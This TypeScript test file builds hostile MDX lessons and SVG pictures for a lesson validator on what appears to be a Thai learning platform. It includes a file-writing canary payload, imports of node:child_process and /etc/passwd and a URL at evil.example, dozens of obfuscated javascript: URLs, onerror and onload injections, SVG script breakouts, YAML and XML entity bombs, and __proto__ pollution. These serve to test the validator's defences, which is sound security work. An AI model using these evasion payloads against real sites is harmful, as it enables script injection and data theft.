import { goodPicture, smallLesson } from './samples.ts'

/** A hostile lesson: a name, the whole source, and pictures of its folder. `rule` where exactly one is right. */
export interface HostileCase {
  name: string
  source: string
  pictures?: Record<string, string>
  rule?: string
}

/** Code that writes the file `canary` if anything ever runs it. */
export const payload = (canary: string) =>
  `process.getBuiltinModule('node:fs').writeFileSync(${JSON.stringify(canary)}, 'ran')`

const inBody = (name: string, body: string, rule?: string): HostileCase => ({
  name,
  source: smallLesson(body),
  rule,
})

/** Places where running text can stand; `@` is the text. */
const places: Record<string, string> = {
  'on its own': '@',
  'in text': 'ข้อความ @ ต่อ',
  'in a list': '- รายการ @',
  'in a quotation': '> ยกมา @',
  'in a heading': '### หัวข้อ @',
  'in emphasis': '**หนา @ หนา**',
  'in a link': '[ลิงก์ @](https://example.go.th)',
  'in a table': '| ก | ข |\n|---|---|\n| @ | 2 |',
  'in a Callout': '<Callout kind="note">\n\n@\n\n</Callout>',
  'in a Practice': '<Practice title="ลอง">\nทำ @ ดู\n</Practice>',
}
const everywhere = (name: string, text: string, rule?: string): HostileCase[] =>
  Object.entries(places).map(([place, around]) =>
    inBody(
      `${name} ${place}`,
      around.replace('@', () => text),
      rule,
    ),
  )

function expressions(canary: string): HostileCase[] {
  const run = payload(canary)
  const codes = [
    run,
    `(() => { ${run} })()`,
    `\`\${${run}}\``,
    '1 + 1',
    'globalThis',
    `[].map(() => ${run})`,
    '/* หมายเหตุ */',
    `<p>{${run}}</p>`,
  ]
  const inAttributes = [
    `title={${run}}`,
    `{...(${run}, {})}`,
    `{...globalThis}`,
    `title={<b>{${run}}</b>}`,
    'title={"คำ"}',
    'title={`คำ`}',
  ]
  return [
    ...codes.flatMap(code => everywhere(`expression ${code.slice(0, 20)}`, `{${code}}`)),
    ...inAttributes.flatMap(attribute => [
      inBody(
        `attribute ${attribute.slice(0, 18)} on Callout`,
        `<Callout kind="note" ${attribute}>\n\nเนื้อหา\n\n</Callout>`,
      ),
      inBody(`attribute ${attribute.slice(0, 18)} on Term`, `คำ <Term means="คำ" ${attribute}>คำ</Term>`),
      inBody(
        `attribute ${attribute.slice(0, 18)} on Figure`,
        `<Figure src="shared-th.svg" alt="ภาพ" ${attribute} />`,
      ),
      inBody(
        `attribute ${attribute.slice(0, 18)} on Simulation`,
        `<Simulation name="cloud-cost" ${attribute} />`,
      ),
    ]),
    inBody('expression across lines', `{\n${run}\n}`, 'expression'),
    inBody('children as an attribute', `<Callout kind="note" children={${run}} />`),
    inBody('expression as a component name', `<{x} />`),
    inBody('member component', '<React.Fragment>\n\nx\n\n</React.Fragment>', 'unknown-component'),
    inBody('namespaced component', '<svg:script>\n\nx\n\n</svg:script>'),
    inBody('fragment', '<>\n\nx\n\n</>', 'component-unnamed'),
    inBody('constructor as a component', '<Constructor />', 'unknown-component'),
    inBody(
      'the platform’s own inner component',
      '<Choice right="yes">\n\nx\n\n</Choice>',
      'unknown-component',
    ),
    inBody('layout of MDX', '<MDXContent />', 'unknown-component'),
    inBody('wrapper of MDX', '<_components.p>x</_components.p>'),
  ]
}

function modules(canary: string): HostileCase[] {
  const run = payload(canary)
  const lines = [
    'import fs from "node:fs"',
    'import "node:child_process"',
    "import x from './other.mdx'",
    'import * as all from "/etc/passwd"',
    'import data from "../../package.json"',
    'import x from "https://evil.example/x.js"',
    `export const x = ${run}`,
    `export default function Layout() { ${run} }`,
    'export { default } from "node:fs"',
    'export * from "node:os"',
    `export const frontmatter = (${run}, {})`,
    'export let components = {}',
    `import {writeFileSync} from 'fs'; export const y = writeFileSync(${JSON.stringify(canary)}, 'x')`,
    'import x from "data:text/javascript,export default 1"',
  ]
  return lines.flatMap(line => [
    inBody(`module line ${line.slice(0, 30)}`, line),
    inBody(`module line after text ${line.slice(0, 30)}`, `ข้อความ\n\n${line}\n\nข้อความ`),
    {
      name: `module line first ${line.slice(0, 30)}`,
      source: smallLesson('<Figure src="shared-th.svg" alt="ภาพ" />').replace(
        '\n---\n\n',
        `\n---\n${line}\n\n`,
      ),
    },
  ])
}

const tags =
  `script style iframe object embed img svg math form input button textarea select video audio source a base meta
link template details dialog marquee applet frame frameset body html head title noscript xmp plaintext portal slot canvas
image foreignObject animate set use p div span h1 table br hr center font b i u small mekha-slot sim-threshold`.split(
    /\s+/,
  )

function markup(): HostileCase[] {
  return tags.flatMap(tag => [
    inBody(`<${tag}> closed at once`, `<${tag} />`),
    inBody(`<${tag}> around text`, `<${tag}>\n\nx\n\n</${tag}>`),
    inBody(`<${tag}> in a line`, `ก่อน <${tag} src="x" onerror="canary()">x</${tag}> หลัง`),
    inBody(`<${tag}> left open`, `<${tag}>`),
  ])
}

const handlers =
  `onclick onClick ONCLICK onload onLoad onerror onError onmouseover onMouseOver onfocus onFocus onblur onanimationstart
onAnimationEnd onbegin ontoggle onToggle onpointerdown onPointerEnter onsubmit onSubmit oninput onInput onbeforeinput onwheel
oncopy onpaste ontransitionend onscroll onhashchange onpageshow onmessage`.split(/\s+/)
const foreign =
  `style className class id ref key is dangerouslySetInnerHTML srcdoc formaction href xlink:href xmlns __proto__ constructor
prototype toString children suppressHydrationWarning data-x aria-label tabindex action right hidden`.split(
    /\s+/,
  )

function attributes(): HostileCase[] {
  const on = (attribute: string) => [
    inBody(`${attribute} on Callout`, `<Callout kind="note" ${attribute}="canary()">\n\nเนื้อหา\n\n</Callout>`),
    inBody(`${attribute} on Figure`, `<Figure src="shared-th.svg" alt="ภาพ" ${attribute}="canary()" />`),
    inBody(`${attribute} on Term`, `คำ <Term means="คำ" ${attribute}="canary()">คำ</Term>`),
    inBody(`${attribute} on Simulation`, `<Simulation name="threshold" ${attribute}="canary()" />`),
  ]
  return [...handlers, ...foreign].flatMap(on)
}

/** Addresses that must not become links, in all their disguises. */
export const hostileAddresses = [
  'javascript:canary()',
  'JaVaScRiPt:canary()',
  'javascript&#58;canary()',
  'javascript&#x3a;canary()',
  'javascript&colon;canary()',
  '&#106;avascript:canary()',
  '&#0000106;avascript:canary()',
  '&#x6A;&#x61;vascript:canary()',
  'java&#10;script:canary()',
  'java&Tab;script:canary()',
  'java&NewLine;script:canary()',
  '&#1;javascript:canary()',
  '&#32;javascript:canary()',
  'javascript:%61lert(1)',
  'javascript://example.go.th/%0Acanary()',
  'vbscript:msgbox(1)',
  'data:text/html,&lt;script&gt;canary()&lt;/script&gt;',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,x',
  'file:///etc/passwd',
  'blob:https://example.go.th/1',
  'filesystem:https://example.go.th/1',
  'view-source:https://example.go.th',
  'ftp://example.go.th',
  'ws://example.go.th',
  'mailto:someone@example.go.th',
  'tel:021234567',
  'intent://scan/#Intent;end',
  'about:blank',
  'chrome://settings',
  '//evil.example/x',
  '\\\\\\\\evil.example',
  '/\\\\evil.example',
  'http:\\\\\\\\evil.example',
  'https:evil.example',
  'http:///evil.example',
  'https://user:secret@example.go.th',
  'https://',
  'http://[x',
  'jar:https://example.go.th!/x',
  'x:y',
  'a:b/c',
  'JAVASCRIPT&#0058;canary()',
  '&#x00A0;javascript:canary()',
  '&#x2028;javascript:canary()',
]

function links(): HostileCase[] {
  return hostileAddresses.flatMap(address => [
    inBody(`link ${address}`, `[ข้อความ](<${address}>)`, undefined),
    inBody(`reference ${address}`, `[ข้อความ][ที่]\n\n[ที่]: <${address}>`, undefined),
    inBody(
      `link in a Callout ${address}`,
      `<Callout kind="tip">\n\n- [ข้อความ](<${address}>)\n\n</Callout>`,
      undefined,
    ),
  ])
}

function wrongUse(): HostileCase[] {
  const check = (inside: string, attributes = 'id="other"') =>
    `<Check ${attributes}>\n\n<Question id="a">\n\nถาม\n\n${inside}\n\n</Question>\n\n</Check>`
  const choices = '- [x] ก\n  <Why>ก</Why>\n- [ ] ข\n  <Why>ข</Why>'
  const bodies: [string, string, string?][] = [
    ['unknown kind', '<Callout kind="danger">\n\nx\n\n</Callout>', 'attribute-value'],
    ['missing kind', '<Callout title="x">\n\nx\n\n</Callout>', 'attribute-missing'],
    ['empty title', '<Callout kind="note" title="">\n\nx\n\n</Callout>', 'attribute-value'],
    ['attribute without value', '<Callout kind>\n\nx\n\n</Callout>', 'attribute-empty'],
    ['attribute twice', '<Callout kind="note" kind="tip">\n\nx\n\n</Callout>', 'attribute-twice'],
    ['curly quotes', '<Callout kind=“note”>\n\nx\n\n</Callout>', 'syntax'],
    ['empty Callout', '<Callout kind="note"></Callout>', 'component-empty'],
    ['Case without agency', '<Case title="x">\n\nx\n\n</Case>', 'attribute-missing'],
    [
      'Case in a Callout',
      '<Callout kind="note">\n\n<Case agency="a" title="b">\n\nx\n\n</Case>\n\n</Callout>',
      'component-place',
    ],
    ['Case in a list', '- <Case agency="a" title="b">x</Case>', 'component-place'],
    ['Figure without alt', '<Figure src="shared-th.svg" />', 'attribute-missing'],
    ['Figure with empty alt', '<Figure src="shared-th.svg" alt=" " />', 'attribute-value'],
    ['Figure in a line', 'คำ <Figure src="shared-th.svg" alt="x" /> คำ', 'component-inline'],
    ['Figure with content', '<Figure src="shared-th.svg" alt="x">\n\nx\n\n</Figure>', 'component-filled'],
    ['picture not there', '<Figure src="other.svg" alt="x" />', 'picture-missing'],
    ...[
      '../what/shared-th.svg',
      '/etc/passwd',
      '..\\x.svg',
      'https://evil.example/x.svg',
      'x.gif',
      'a/b.svg',
      '%2e%2e/x.svg',
      '__proto__.svg',
      'shared-th.svg?x',
      'file:x.svg',
      '.svg',
      'SHARED-th.svg',
    ].map((src): [string, string, string] => [
      `picture at ${src}`,
      `<Figure src="${src}" alt="x" />`,
      'picture-place',
    ]),
    ['picture named constructor', '<Figure src="constructor.svg" alt="x" />', 'picture-missing'],
    ['Markdown picture', '![ภาพ](shared-th.svg)', 'image'],
    ['Markdown picture elsewhere', '![ภาพ](https://evil.example/x.gif)', 'image'],
    ['Markdown picture by reference', '![ภาพ][x]\n\n[x]: shared-th.svg', 'image'],
    ['Markdown picture with code', '![x](javascript:canary())', 'image'],
    ['footnote', 'คำ[^1]\n\n[^1]: เชิงอรรถ', 'footnote'],
    ['first-level heading', '# หัวข้อ', 'heading-level'],
    ['underlined heading', 'หัวข้อ\n===', 'heading-level'],
    ['sixth-level heading', '###### หัวข้อ', 'heading-level'],
    ['skipped heading', '#### หัวข้อ', 'heading-skip'],
    ['empty heading', '##\n', 'heading-empty'],
    ['heading in a Callout', '<Callout kind="note">\n\n## x\n\n</Callout>', 'heading-place'],
    ['Steps without numbers', '<Steps>\n- x\n</Steps>', 'steps-shape'],
    ['Steps with text', '<Steps>\nx\n</Steps>', 'steps-shape'],
    ['Compare without a table', '<Compare>\nx\n</Compare>', 'compare-shape'],
    ['Compare with two tables', '<Compare>\n|a|\n|-|\n|b|\n\n|a|\n|-|\n|b|\n</Compare>', 'compare-shape'],
    ['Sources without a list', '<Sources>\nx\n</Sources>', 'sources-shape'],
    ['Monday with four steps', '<Monday>\n1. a\n2. b\n3. c\n4. d\n</Monday>', 'monday-shape'],
    ['Monday with attributes', '<Monday title="x">\n1. a\n</Monday>', 'attribute-unknown'],
    ['Term without meaning', 'คำ <Term>คำ</Term>', 'attribute-missing'],
    ['Term in a heading', '## <Term means="x">คำ</Term> ต่อ', 'term-place'],
    ['Term in a Term', 'คำ <Term means="x"><Term means="y">คำ</Term></Term>'],
    ['link in a Term', 'คำ <Term means="x">[a](https://a.go.th)</Term>', 'term-shape'],
    [
      'Question outside a Check',
      '<Question id="x">\n\nถาม\n\n- [x] a\n  <Why>a</Why>\n- [ ] b\n  <Why>b</Why>\n\n</Question>',
      'component-place',
    ],
    ['Why outside a choice', 'คำ <Why>x</Why>'],
    ['Why on its own', '<Why>x</Why>'],
    ['Check in a Callout', `<Callout kind="note">\n\n${check(choices)}\n\n</Callout>`, 'component-place'],
    ['Check in a quotation', '> <Check id="z">x</Check>'],
    ['text in a Check', `<Check id="z">\n\nคำ\n\n</Check>`],
    ['empty Check', '<Check id="z"></Check>', 'component-empty'],
    ['Check without id', check(choices, ''), 'attribute-missing'],
    ['Check id twice', `${check(choices)}\n\n${check(choices)}`, 'id-twice'],
    ['Check id with capitals', check(choices, 'id="Other"'), 'attribute-value'],
    ['pass of 0', check(choices, 'id="o" pass="0"'), 'attribute-value'],
    ['pass of 101', check(choices, 'id="o" pass="101"'), 'attribute-value'],
    ['pass as words', check(choices, 'id="o" pass="80%"'), 'attribute-value'],
    ['pass negative', check(choices, 'id="o" pass="-1"'), 'attribute-value'],
    ['pass in scientific writing', check(choices, 'id="o" pass="1e2"'), 'attribute-value'],
    ['attempts of 11', check(choices, 'id="o" attempts="11"'), 'attribute-value'],
    [
      'Question id twice',
      `<Check id="o">\n\n<Question id="a">\nถาม\n\n${choices}\n</Question>\n\n<Question id="a">\nถาม\n\n${choices}\n</Question>\n\n</Check>`,
      'id-twice',
    ],
    ['no choices', check('คำ'), 'question-choices'],
    ['one choice', check('- [x] ก\n  <Why>ก</Why>'), 'question-size'],
    [
      'nine choices',
      check(
        ['- [x] ก\n  <Why>ก</Why>', ...Array.from({ length: 8 }, () => '- [ ] ข\n  <Why>ข</Why>')].join('\n'),
      ),
      'question-size',
    ],
    ['no right choice', check(choices.replace('[x]', '[ ]')), 'question-right'],
    ['two right choices', check(choices.replace('[ ]', '[x]')), 'question-right'],
    ['choice without Why', check('- [x] ก\n- [ ] ข\n  <Why>ข</Why>'), 'choice-shape'],
    [
      'choice with two Whys',
      check('- [x] ก\n  <Why>ก</Why> <Why>ก</Why>\n- [ ] ข\n  <Why>ข</Why>'),
      'choice-shape',
    ],
    ['Why before the choice', check('- [x] <Why>ก</Why> ก\n- [ ] ข\n  <Why>ข</Why>'), 'choice-shape'],
    ['choice without a box', check('- [x] ก\n  <Why>ก</Why>\n- ข\n  <Why>ข</Why>')],
    ['empty Why', check('- [x] ก\n  <Why></Why>\n- [ ] ข\n  <Why>ข</Why>'), 'component-empty'],
    [
      'no question text',
      '<Check id="o">\n\n<Question id="a">\n- [x] ก\n  <Why>ก</Why>\n- [ ] ข\n  <Why>ข</Why>\n</Question>\n\n</Check>',
      'question-prompt',
    ],
    ['text after the choices', check(`${choices}\n\nต่อท้าย`), 'question-choices'],
    ['unknown simulation', '<Simulation name="other" />', 'simulation-unknown'],
    ['simulation named constructor', '<Simulation name="constructor" />', 'simulation-unknown'],
    [
      'simulation with a wrong setting',
      '<Simulation name="shared-responsibility" model="faas" />',
      'attribute-value',
    ],
    [
      'simulation with an unknown setting',
      '<Simulation name="shared-responsibility" colour="red" />',
      'attribute-unknown',
    ],
    ['simulation with content', '<Simulation name="cloud-cost">\n\nx\n\n</Simulation>', 'component-filled'],
    ['unclosed Callout', '<Callout kind="note">\n\nx', 'syntax'],
    ['closing tag alone', '</Callout>', 'syntax'],
    ['crossed tags', '<Callout kind="note">\n\n<Practice>\n\nx\n\n</Callout>\n\n</Practice>', 'syntax'],
    ['stray <', 'ราคา <500 บาท', 'syntax'],
    ['stray {', 'ราคา { 500 บาท', 'syntax'],
    ['HTML comment', '<!-- หมายเหตุ -->', 'syntax'],
    ['doctype', '<!DOCTYPE html>', 'syntax'],
    ['CDATA', '<![CDATA[x]]>', 'syntax'],
    ['processing instruction', '<?php echo 1 ?>', 'syntax'],
    ['address in angle brackets', '<https://example.go.th>', 'syntax'],
    ['unclosed attribute', '<Callout kind="note>\n\nx\n\n</Callout>', 'syntax'],
    ['empty link', '[](https://example.go.th)', 'link-empty'],
    ['null character', 'ก\u0000ข', 'hidden-character'],
    ['text turned round', 'ก\u202Eข', 'hidden-character'],
    ['isolated text', 'ก\u2066ข', 'hidden-character'],
    ['escape character', 'ก\u001Bข', 'hidden-character'],
    ['forty-five quotations', `${'> '.repeat(45)}x`, 'too-deep'],
    ['slot of the page', '<mekha-slot n="0"></mekha-slot>', 'html-tag'],
  ]
  return bodies.map(([name, body, rule]) => inBody(name, body, rule))
}

function frontMatters(canary: string): HostileCase[] {
  const run = payload(canary)
  const whole = smallLesson('<Figure src="shared-th.svg" alt="ภาพ" />')
  const rest = whole.slice(whole.indexOf('\n---\n') + 5)
  const front = (name: string, text: string, rule?: string): HostileCase => ({
    name,
    source: `${text}${rest}`,
    rule,
  })
  const yaml = (name: string, text: string, rule?: string) => front(name, `---\n${text}\n---\n`, rule)
  const bomb = [
    'a: &a [x,x,x,x,x,x,x,x,x]',
    ...'bcdefghi'
      .split('')
      .map((key, n) => `${key}: &${key} [${Array(9).fill(`*${'abcdefghi'[n]}`).join(',')}]`),
  ].join('\n')
  const fine = 'title: ก\nminutes: 4\nobjectives: [ก]'
  return [
    ...['js', 'javascript', 'coffee', 'json', 'toml', 'yaml', ' js', 'JS', 'js ', ';', '{', '"x"'].map(
      language =>
        front(
          `front matter of ---${language}`,
          `---${language}\n{ title: (${run}, 'x') }\n---\n`,
          language.trim() ? 'front-matter-language' : undefined,
        ),
    ),
    front('no front matter', 'ข้อความ\n\n', 'front-matter-missing'),
    front('front matter after a blank line', `\n---js\n{ title: ${run} }\n---\n`, 'front-matter-missing'),
    front('TOML front matter', `+++\ntitle = "x"\n+++\n`, 'front-matter-missing'),
    front('two front matters', `---\n${fine}\n---\n---js\n({ title: ${run} })\n---\n<script>x</script>\n`),
    front('two front matters, the second JSON', `---\n${fine}\n---\n---json\n{"a":1}\n---\n{1}\n`),
    front('byte order mark and ---js', `\uFEFF---js\n{ title: ${run} }\n---\n`, 'front-matter-language'),
    { name: 'front matter left open', source: `---\n${fine}\n`, rule: 'front-matter-open' },
    { name: 'nothing at all', source: '', rule: 'front-matter-missing' },
    { name: 'a fence alone', source: '---', rule: 'front-matter-open' },
    yaml('YAML bomb', `${fine}\n${bomb}`),
    yaml('YAML alias', `title: &t ก\nminutes: 4\nobjectives: [*t]`),
    yaml('YAML anchor', `title: &t ก\nminutes: 4\nobjectives: [ก]`, 'yaml-anchor'),
    yaml('YAML merge', `base: &b {title: ก}\n<<: *b\nminutes: 4\nobjectives: [ก]`),
    yaml('YAML tag of code', `title: !!js/function 'function(){ ${run} }'\nminutes: 4\nobjectives: [ก]`),
    yaml('YAML tag', `title: !x ก\nminutes: 4\nobjectives: [ก]`),
    yaml('YAML key twice', `${fine}\ntitle: ข`, 'yaml-broken'),
    yaml('YAML unclosed', `title: "ก\nminutes: 4\nobjectives: [ก]`, 'yaml-broken'),
    yaml('YAML with a colon in text', `title: ก: ข\nminutes: 4\nobjectives: [ก]`, 'yaml-broken'),
    yaml('YAML prototype', `${fine}\n__proto__: {isAdmin: true}`, 'yaml-unknown-key'),
    yaml('YAML constructor', `${fine}\nconstructor: {prototype: 1}`, 'yaml-unknown-key'),
    yaml('YAML nested deeply', `${fine}\nx: ${'['.repeat(5000)}`),
    yaml('YAML nested deeply by dashes', `${fine}\nx:\n  ${'- '.repeat(4000)}a`),
    yaml('YAML too long', `${fine}\nx: ${'a'.repeat(20_000)}`, 'yaml-too-large'),
    yaml('YAML list', '- ก\n- ข'),
    yaml('YAML text', 'ก'),
    yaml('YAML nothing', ''),
    yaml('title missing', 'minutes: 4\nobjectives: [ก]', 'yaml-missing'),
    yaml('title empty', 'title: ""\nminutes: 4\nobjectives: [ก]', 'yaml-value'),
    yaml('title as a number', 'title: 5\nminutes: 4\nobjectives: [ก]', 'yaml-value'),
    yaml('minutes as words', 'title: ก\nminutes: สี่\nobjectives: [ก]', 'yaml-value'),
    yaml('minutes of none', 'title: ก\nminutes: 0\nobjectives: [ก]', 'yaml-value'),
    yaml('minutes without end', 'title: ก\nminutes: .inf\nobjectives: [ก]', 'yaml-value'),
    yaml('objectives as text', 'title: ก\nminutes: 4\nobjectives: ก', 'yaml-value'),
    yaml('objectives empty', 'title: ก\nminutes: 4\nobjectives: []', 'yaml-value'),
    yaml('unknown key', `${fine}\ndraft: true`, 'yaml-unknown-key'),
  ]
}

const svg = (inside: string, attributes = 'viewBox="0 0 360 200"') =>
  `<svg xmlns="http://www.w3.org/2000/svg" ${attributes}>\n${inside}\n</svg>`
const rect = (attribute: string) => svg(`<rect x="1" y="1" width="9" height="9" ${attribute}/>`)

/** Pictures that must be refused, each by name. */
export const hostilePictures: Record<string, string> = {
  ...Object.fromEntries(
    `script style foreignObject use image animate animateMotion animateTransform set a iframe object embed video audio defs symbol
    linearGradient radialGradient stop pattern mask clipPath filter feImage marker switch metadata view textPath handler
    discard html body p div img math form input link meta base`
      .split(/\s+/)
      .map(tag => [`<${tag}>`, svg(`<${tag} href="x" onload="canary()">x</${tag}>`)]),
  ),
  ...Object.fromEntries(
    `onload="canary()" onclick="canary()" ONERROR="canary()" onbegin="x" style="fill:red" id="x" href="#x" xlink:href="javascript:canary()"
    fill="red" fill="url(#x)" fill="url(https://evil.example)" stroke="#fff" class="other" class="ink;x" filter="url(#x)" mask="url(#m)"
    clip-path="url(#x)" opacity="0.5" font-family="x" data-x="1" tabindex="0" role="button" aria-label="x" xml:base="x" transform="url(x)"
    cursor="url(x)" width="expression(1)" x="calc(1px)" lang="th" stroke-width="1e999x" transform="translate(1);x" begin="0s" attributeName="href"`
      .split(/\s+(?=[a-zA-Z:-]+=)/)
      .map(attribute => [attribute, rect(attribute.trim())]),
  ),
  'onload on the picture': svg('', 'viewBox="0 0 9 9" onload="canary()"'),
  'no viewBox': svg('<path d="M0 0"/>', ''),
  'broken viewBox': svg('', 'viewBox="0 0 x 9"'),
  'flat viewBox': svg('', 'viewBox="0 0 0 0"'),
  'fixed width': svg('', 'viewBox="0 0 9 9" width="9"'),
  'not SVG': 'ข้อความ',
  empty: '',
  'HTML around it': `<div>${goodPicture}</div>`,
  'script after it': `${goodPicture}<script>canary()</script>`,
  'text after it': `${goodPicture}ข้อความ`,
  'two pictures': `${goodPicture}${goodPicture}`,
  comment: svg('<!-- x -->'),
  'comment with a script': svg('<!--><script>canary()</script>-->'),
  doctype: `<!DOCTYPE svg [<!ENTITY x "y">]>${goodPicture}`,
  'entity bomb': `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>${svg('<text font-size="14">&b;</text>')}`,
  'XML instruction': `<?xml-stylesheet href="https://evil.example/x.css"?>${goodPicture}`,
  CDATA: svg('<title><![CDATA[<script>canary()</script>]]></title><script/>'),
  'HTML in a title': svg('<title><img src="x" onerror="canary()"></title>'),
  'script in a desc': svg('<desc><script>canary()</script></desc>'),
  'style in a title': svg('<title><style><img src=x onerror=canary()></style></title>'),
  'picture in a picture': svg('<svg viewBox="0 0 9 9"></svg>'),
  'text on its own': svg('ข้อความ'),
  'text without a size': svg('<text x="1" y="1">x</text>'),
  'text too small': svg('<text x="1" y="1" font-size="8">x</text>'),
  'script in a path': svg('<path d="M0 0 javascript:canary()"/>'),
  'breakout paragraph': svg('<p><script>canary()</script></p>'),
  'breakout by math': svg('<g><math><mtext><script>canary()</script></mtext></math></g>'),
  'attribute twice': rect('class="ink" class="muted"'),
  'unfinished tag': '<svg viewBox="0 0 9 9"><rect ',
  'null character': svg('<text font-size="14">\u0000<script>x</script></text>'),
  'three thousand shapes': svg('<path d="M0 0"/>'.repeat(3000)),
  'forty groups deep': svg(`${'<g>'.repeat(40)}${'</g>'.repeat(40)}`),
}

/** Every hostile lesson; `canary` is the path that a payload would write. */
export function hostileCases(canary: string): HostileCase[] {
  return [
    ...expressions(canary),
    ...modules(canary),
    ...markup(),
    ...attributes(),
    ...links(),
    ...wrongUse(),
    ...frontMatters(canary),
    ...Object.entries(hostilePictures).map(([name, picture]) => ({
      name: `picture: ${name}`,
      source: smallLesson('<Figure src="shared-th.svg" alt="ภาพ" />'),
      pictures: { 'shared-th.svg': picture },
    })),
  ]
}
